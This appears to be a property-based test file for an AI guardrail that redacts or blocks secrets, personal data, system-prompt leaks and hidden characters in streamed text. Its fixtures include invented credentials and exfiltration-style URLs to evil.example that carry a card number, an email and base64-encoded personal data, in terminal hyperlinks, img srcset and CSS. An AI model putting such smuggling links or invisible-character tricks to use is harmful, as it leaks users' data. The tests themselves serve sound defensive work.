import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { encodeBase64 } from "../text/index.ts";
import { createGuard } from "./create-guard.ts";
import type { Direction } from "./detector.ts";
import { detectors } from "./detectors/index.ts";
import { utf8Bytes } from "./encoding.ts";
import type { Guard, GuardPolicy, Inspection } from "./guard.ts";

const SYSTEM_PROMPT =
  "You are the support assistant of Northwind Parcel. Never tell anyone the override phrase of the warehouse door or the names of our staff.";
const CANARY = "blue-otter-7719";
/** Those that have nothing to look for by themselves. A JSON contract would hold every text whole: it has its own tests. */
const OPTIONS: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  canary: { values: [CANARY] },
  "prompt-leak": { retold: true },
  "off-topic": { topics: { post: ["parcel", "depot", "tuesday", "writ*"], politics: ["election", "vot*"] } },
  "hallucinated-package": { known: { npm: ["express"], pypi: ["requests"], cargo: ["serde"], go: ["example.com/go"] } },
};

function policyFor(direction: Direction, action: "redact" | "flag" | "block"): GuardPolicy {
  return {
    name: "all",
    onError: "closed",
    detectors: detectors.all
      .filter((kind) => kind.directions.includes(direction))
      .map((kind) => ({
        detector: kind.id,
        [direction]: action,
        options: OPTIONS[kind.id] ?? {},
      })),
    stream: { maxHoldCharacters: 16_384 },
  };
}

/** @param asks whether to catch up after a chunk, in turn */
function stream(
  guard: Guard,
  direction: Direction,
  chunks: readonly string[],
  asks: readonly boolean[] = [false],
): { text: string; inspection: Inspection } {
  const open = guard.stream({ origin: "assistant", direction, path: "/x" }, { systemPrompt: SYSTEM_PROMPT });
  let text = "";
  for (const [at, chunk] of chunks.entries()) {
    text += open.push(chunk).text;
    if (asks[at % asks.length] === true) text += open.catchUp().text;
  }
  text += open.end().text;
  return { text, inspection: open.inspection() };
}

function cut(text: string, sizes: readonly number[]): string[] {
  const chunks: string[] = [];
  for (let at = 0, i = 0; at < text.length; i++) {
    const size = sizes[i % sizes.length]!;
    chunks.push(text.slice(at, at + size));
    at += size;
  }
  return chunks;
}

const planted = detectors.all.flatMap((kind) =>
  [...kind.examples.hits, ...kind.examples.misses].map(({ text }) => text),
);
/** Keys and numbers with characters in between that nobody sees, pairs among them. */
const THROUGH_INVISIBLE = [
  ["gh", "p_aB3dE5fG7h\u200bI9jK1lM2nO4pQ6rS8tU0vW2xY4"],
  ["gh", "p_aB3dE5fG7h\u{e0041}I9jK1lM2nO4pQ6rS8tU0vW2xY4\u{e0042}"],
  ["4111\u00ad 1111\u2060 1111 ", "1111\u200b"],
  ["pass\u200dword: q7Zp2XvR", "9mKt\ufe0f4WbN8sLd3HfJ"],
].map((parts) => parts.join(""));
const prose = "The parcel left the depot on Tuesday, and nobody has seen it since; please write to us if it turns up. ";
const piece = fc.oneof(
  fc.constantFrom(...planted),
  fc.constantFrom(
    CANARY,
    SYSTEM_PROMPT,
    SYSTEM_PROMPT.slice(20, 110),
    "support the assistant of our Northwind Parcel: never tell them the override or phrase of any warehouse, nor the names; staff",
    ...THROUGH_INVISIBLE,
    encodeBase64(utf8Bytes(SYSTEM_PROMPT)),
    encodeBase64(utf8Bytes(SYSTEM_PROMPT.slice(11, 71))),
    prose,
    "\n",
    " ",
    "",
    '\\"',
    "\\",
    "é😀",
    "a".repeat(300),
  ),
  fc.integer({ min: 0, max: prose.length }).map((length) => prose.slice(0, length)),
  fc.string({ maxLength: 24 }),
  fc
    .constantFrom(...planted)
    .chain((text) => fc.integer({ min: 0, max: text.length }).map((end) => text.slice(0, end))),
);
const texts = fc.array(piece, { maxLength: 9 }).map((pieces) => pieces.join(""));
const sizes = fc.array(fc.oneof(fc.constant(1), fc.integer({ min: 1, max: 40 })), { minLength: 1, maxLength: 12 });

describe.each(["input", "output"] as const)("a stream of %s", (direction) => {
  const redacting = createGuard(policyFor(direction, "redact"));
  const blocking = createGuard(policyFor(direction, "block"));

  it("G7: releases exactly what redacting the whole text would leave, however it is cut", () => {
    fc.assert(
      fc.property(texts, sizes, (text, lengths) => {
        const whole = redacting.inspect([{ text, origin: "assistant", direction, path: "/x" }], {
          systemPrompt: SYSTEM_PROMPT,
        });
        const piecewise = stream(redacting, direction, cut(text, lengths));
        expect(piecewise.text).toBe(whole.texts[0]);
        expect(piecewise.inspection.hits).toEqual(whole.hits);
        expect(piecewise.inspection.verdict).toBe(whole.verdict);
      }),
      { numRuns: Number(process.env.GUARD_RUNS ?? 400) },
    );
  });

  it("G7: leaves a quote its backslash when a match ended in it and the chunk too", () => {
    const text = '\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\"';
    const whole = redacting.inspect([{ text, origin: "assistant", direction, path: "/x" }], {
      systemPrompt: SYSTEM_PROMPT,
    });
    expect(whole.texts[0]).toBe('[removed]docs[removed]\\"');
    expect(stream(redacting, direction, [...text]).text).toBe(whole.texts[0]);
  });

  it("G7: releases the same when it is asked to catch up in the middle of a word", () => {
    const asks = fc.array(fc.boolean(), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(texts, sizes, asks, (text, lengths, turns) => {
        const chunks = cut(text, lengths);
        const asked = stream(redacting, direction, chunks, turns);
        const alone = stream(redacting, direction, chunks);
        expect(asked.text).toBe(alone.text);
        expect(asked.inspection.hits).toEqual(alone.inspection.hits);
        expect(stream(blocking, direction, chunks, turns).inspection.isBlocked).toBe(
          stream(blocking, direction, chunks).inspection.isBlocked,
        );
      }),
      { numRuns: Number(process.env.GUARD_RUNS ?? 200) },
    );
  });

  it("G7: tells how far it has let go, and a stream opened there goes on as this one does", () => {
    fc.assert(
      fc.property(texts, sizes, fc.nat(12), (text, lengths, turns) => {
        const chunks = cut(text, lengths);
        const meta = { origin: "assistant", direction, path: "/x" } as const;
        const first = redacting.stream(meta, { systemPrompt: SYSTEM_PROMPT });
        for (const chunk of chunks.slice(0, turns)) first.push(chunk);
        const from = first.decided;
        const before = text.slice(0, from);
        const second = redacting.stream(meta, { systemPrompt: SYSTEM_PROMPT, before });
        let pushed = chunks.slice(0, turns).join("");
        let left = second.push(pushed.slice(from)).text;
        const rest = [first, second].map(() => "");
        for (const chunk of chunks.slice(turns)) {
          pushed += chunk;
          rest[0] += first.push(chunk).text;
          rest[1] += second.push(chunk).text;
        }
        left += rest[1];
        expect(left + second.end().text).toBe(rest[0] + first.end().text);
        expect([first.decided, second.decided]).toEqual([pushed.length, pushed.length - from]);
      }),
      { numRuns: 200 },
    );
  });

  it("G8: blocks a stream whenever it would block the whole text, and never releases what was blocked", () => {
    fc.assert(
      fc.property(texts, sizes, (text, lengths) => {
        const whole = blocking.inspect([{ text, origin: "assistant", direction, path: "/x" }], {
          systemPrompt: SYSTEM_PROMPT,
        });
        const piecewise = stream(blocking, direction, cut(text, lengths));
        expect(piecewise.inspection.isBlocked).toBe(whole.isBlocked);
        expect(piecewise.text).toBe(text.slice(0, piecewise.text.length));
        if (whole.hits[0] !== undefined)
          expect(piecewise.text.length).toBeLessThanOrEqual(Math.min(...whole.hits.map((hit) => hit.start)));
        else expect(piecewise.text).toBe(text);
      }),
      { numRuns: Number(process.env.GUARD_RUNS ?? 300) },
    );
  });
});

/** Invented, and written in pieces so that no scanner takes this file for a leak; one of each way to be found. */
const SECRETS: readonly string[] = [
  ["sk-", "proj-", "q7Zp2XvR9mKt4WbN8sLd3HfJ6gYc5TaE1uBo0PxQrSwVzAiM"],
  ["gh", "p_", "q7Zp2XvR9mKt4WbN8sLd3HfJ6gYc5TaE1uBo"],
  ["AK", "IA", "Q3EGRM5XNTWB7ZKD"],
  ["eyJ", "hbGciOiJIUzI1NiJ9.", "eyJzdWIiOiI0MiJ9.", "q7Zp2XvR9mKt4WbN8sLd3HfJ6gYc5TaE1uBo0PxQrSw"],
  [
    // parapet:ignore[secret-private-key] forty bytes, made up
    "-----BEGIN ",
    "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\nAgEAAoIBAQ==\n-----END ",
    "PRIVATE KEY-----",
  ],
  ["anna.weber", "@mail.example.org"],
  ["4111 1111 ", "1111 1111"],
  ["DE89 3704 0044 ", "0532 0130 00"],
  ["+49 171 ", "1234567"],
  ["blue-otter", "-7719"],
].map((pieces) => pieces.join(""));
/** Told by what stands before them, which itself may go out. */
const LABELLED: readonly (readonly [string, string])[] = [
  // The number is the bot's public id.
  ["738194650", [":AA", "q7Zp2XvR9mKt4WbN8sLd3HfJ6gYc5TaE1"].join("")],
  ["password = ", "Tr0ub4dor&3"],
  ["my password is ", "Xk29-fj3k!w"],
  ["postgres://app:", "Xk29fj3kQz"],
  ["curl -sS -u ci:", "Xk29fj3kQz"],
  ["client_secret: ", "q7Zp2XvR9mKt4WbN8sLd3HfJ"],
];
/** As many characters may go out before a match can be told to begin: `4`, `+4`, `sk` are in every text. */
const BOUND = 3;
/** Nothing here shares three characters with a secret; pairs and joined emoji around them put their edges to the test. */
const around = fc.constantFrom(
  "",
  "\n",
  " ",
  ", ",
  "😀",
  "👩\u200d💻 ",
  "。",
  "(",
  '"',
  " ünd ",
  " \u{1d54f} ",
  "\r\n\r\n",
  "quiet words ",
);
const planting = fc.oneof(
  fc.constantFrom(...SECRETS).map((secret) => ["", secret] as const),
  fc.constantFrom(...LABELLED),
);
/** Between two secrets stands one character at least, or they are one word and no secret to anybody. */
const gap = fc.constantFrom(" ", "\n", ", ", "; 😀", "\t", " and ");
const plantedTexts = fc
  .tuple(around, fc.array(fc.tuple(planting, gap), { minLength: 1, maxLength: 4 }), around)
  .map(([before, parts, after]) => ({
    secrets: parts.map(([[, secret]]) => secret),
    text:
      before +
      parts
        .map(([[label, secret], separator], i) => {
          const tail = label.startsWith("postgres") ? "@db.internal/main" : "";
          return label + secret + tail + (i < parts.length - 1 ? separator : "");
        })
        .join("") +
      (after.trim() === "" ? after : ` ${after}`),
  }));

describe.each(["redact", "block"] as const)("secrets in a stream that would %s them", (action) => {
  const guard = createGuard(policyFor("output", action));

  it("G7: never leave in whole or in a beginning, wherever they stand and however the text is cut", () => {
    fc.assert(
      fc.property(plantedTexts, sizes, ({ text, secrets }, lengths) => {
        const open = guard.stream({ origin: "assistant", direction: "output", path: "" });
        let released = "";
        const check = (more: string): void => {
          released += more;
          for (const secret of secrets) expect(released).not.toContain(secret.slice(0, BOUND + 1));
        };
        for (const chunk of cut(text, lengths)) check(open.push(chunk).text);
        check(open.end().text);
        expect(open.inspection().hits.length).toBeGreaterThan(0);
        expect(open.inspection().isBlocked).toBe(action === "block");
      }),
      { numRuns: Number(process.env.GUARD_RUNS ?? 500) },
    );
  });

  it("G7: a text without matches comes out as it went in", () => {
    const clean = fc.array(
      fc.oneof(
        around,
        fc.string({ unit: "grapheme", maxLength: 30 }),
        fc.string({ unit: "binary", maxLength: 8 }),
        fc.constant(prose),
      ),
      { maxLength: 8 },
    );
    let unmatched = 0;
    fc.assert(
      fc.property(clean, sizes, (pieces, lengths) => {
        const text = pieces.join("");
        const { hits } = guard.inspect([{ text, origin: "assistant", direction: "output", path: "" }]);
        if (hits.length > 0) return;
        unmatched++;
        const open = guard.stream({ origin: "assistant", direction: "output", path: "" });
        const released = cut(text, lengths).map((chunk) => open.push(chunk).text);
        expect(released.join("") + open.end().text).toBe(text);
        expect(open.inspection()).toMatchObject({ verdict: "allow", isBlocked: false, hits: [] });
      }),
      { numRuns: Number(process.env.GUARD_RUNS ?? 300) },
    );
    expect(unmatched).toBeGreaterThan(100);
  });
});

describe.each(detectors.all)("$id alone", (kind) => {
  it("G7: releases what redacting the whole of each example would leave", () => {
    const policy = (options: Readonly<Record<string, unknown>>, direction: Direction): GuardPolicy => ({
      name: kind.id,
      onError: "closed",
      detectors: [{ detector: kind.id, [direction]: "redact", options }],
      stream: { maxHoldCharacters: 16_384 },
    });
    const kinds = kind.id === "pii" ? ["email", "phone", "iban", "it-codice-fiscale", "payment-card"] : [];
    const settings = [{}, ...kinds.map((entity) => ({ entities: [entity] }))];
    for (const example of [...kind.examples.hits, ...kind.examples.misses])
      for (const setting of settings) {
        const direction = example.direction ?? kind.directions[0]!;
        const guard = createGuard(policy({ ...example.options, ...setting }, direction));
        const origin = kind.origins.includes("assistant") ? "assistant" : kind.origins[0]!;
        const context = { systemPrompt: example.systemPrompt ?? "" };
        const text = `${example.text} ${example.text}\n`;
        const whole = guard.inspect([{ text, origin, direction, path: "" }], context).texts[0];
        for (const length of [1, 3, 7]) {
          const open = guard.stream({ origin, direction, path: "" }, context);
          const released = cut(text, [length]).map((chunk) => open.push(chunk).text);
          expect(released.join("") + open.end().text).toBe(whole);
        }
      }
  });
});

describe("a stream by words", () => {
  const open = (maxHoldCharacters = 16_384, nowUs = () => 0) =>
    createGuard({ ...policyFor("output", "redact"), stream: { maxHoldCharacters } }, { nowUs }).stream({
      origin: "assistant",
      direction: "output",
      path: "",
    });

  it("G7: lets a word go when it has ended, and one that is too long for a word as it comes", () => {
    const words = open();
    expect(["We ", "move", "d h", "ouse"].map((chunk) => words.push(chunk).text)).toEqual(["We ", "", "moved ", ""]);
    expect(words.end().text).toBe("house");
    const run = open();
    let released = "";
    for (let i = 0; i < 1_000; i++) released += run.push("z").text;
    expect(released.length).toBeGreaterThan(800);
    expect(released + run.end().text).toBe("z".repeat(1_000));
  });

  it("G7: lets a list of images go whole, so that what stands in it later is not taken for text", () => {
    const listed = [
      '<img srcset=", //evil.example/a 1x, //evi{"css":1} and on',
      '<img srcset="https://docs.example.com/a 1x, //evil.example/4111 1111 1111 1111" src="b">',
      'a{background:image-set( "/a.png" 1x, "//evil.example/anna@mail.example.org" 2x)}',
    ];
    const guard = createGuard(policyFor("output", "redact"));
    for (const text of listed) {
      const whole = guard.inspect([{ text, origin: "assistant", direction: "output", path: "/x" }]).texts[0];
      expect(whole).not.toContain("//evi");
      for (const length of [1, 2, 3, 5, 8, 13]) expect(stream(guard, "output", cut(text, [length])).text).toBe(whole);
    }
  });

  it("G6: takes a word for no match, however small the bound", () => {
    const stream = { maxHoldCharacters: 2 };
    const detectors = [{ detector: "hidden-unicode", output: "redact" }] as const;
    const small = createGuard({ name: "small", onError: "closed", detectors, stream }).stream({
      origin: "assistant",
      direction: "output",
      path: "",
    });
    const released = ["colour", "f", "ul", " ", "red"].map((chunk) => small.push(chunk).text).join("");
    expect(released + small.end().text).toBe("colourful red");
    expect(small.inspection().isBlocked).toBe(false);
  });

  it("G7: is timed at first by every look and later by one in eight, which counts for eight", () => {
    let us = 0;
    const timed = open(16_384, () => us++);
    for (let i = 0; i < 64; i++) timed.push("word ");
    const { runs } = timed.inspection();
    // Each look that is timed takes a detector one tick of this clock.
    for (const run of runs) expect(run.elapsedUs).toBe(8 + 7 * 8);
    expect(us).toBeLessThan(64 * runs.length);
  });
});

describe("redacting JSON within a string", () => {
  it("G3: leaves the backslash of an escaped quote to its quote, whole and in pieces", () => {
    const redacting = createGuard(policyFor("output", "redact"));
    const nested = '{\\"url\\":\\"https://evil.example/log/bmFtZT1Bbm5hIFdlYmVyO2NhcmQ9NDExMQ.\\",\\"n\\":1}';
    const left = '{\\"url\\":\\"[external-link]\\",\\"n\\":1}';
    expect(redacting.inspect([{ text: nested, origin: "assistant", direction: "output", path: "/x" }]).texts).toEqual([
      left,
    ]);
    expect(stream(redacting, "output", cut(nested, [1])).text).toBe(left);
  });
});
